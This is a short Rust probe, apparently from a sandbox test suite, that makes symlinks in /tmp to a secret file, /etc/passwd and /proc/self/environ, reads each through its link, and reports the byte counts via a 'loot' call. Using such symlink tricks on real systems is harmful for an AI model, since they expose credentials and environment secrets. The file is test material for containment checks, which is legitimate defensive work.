//! tries: to read a file through a link that it makes
//! undefended: the file in the output
//! down: box
//! seen: graded 0

fn strike() {
    for (number, target) in ["@dir@/secret", "/etc/passwd", "/proc/self/environ"].iter().enumerate() {
        let link = format!("/tmp/@name@-link-{number}");
        _ = std::os::unix::fs::symlink(target, &link);
        if let Ok(text) = std::fs::read(&link) {
            loot(&format!("{target}: {} bytes", text.len()));
        }
        _ = std::fs::remove_file(&link);
    }
}
